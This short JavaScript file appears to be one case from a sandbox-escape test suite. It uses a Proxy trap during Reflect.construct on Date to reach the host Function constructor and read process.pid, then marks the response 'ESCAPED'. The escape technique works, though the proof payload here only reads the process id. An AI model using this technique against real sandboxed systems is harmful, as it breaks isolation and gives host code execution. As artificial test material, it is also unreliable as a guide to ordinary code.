// Constructs a date with a new target whose prototype is read through a trap.
// Class: endowments
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const read = new Proxy(Reflect.get, {
    apply(target, self, list) {
      const proof = list.constructor.constructor('return typeof process === "object" ? process.pid : ""')();
      if (proof !== '') options.responseData[0].id = `ESCAPED:${proof}`;
      return Reflect.apply(target, self, list);
    },
  });
  Reflect.construct(Date, [], new Proxy(function () {}, { get: read }));
  return options.responseData;
}
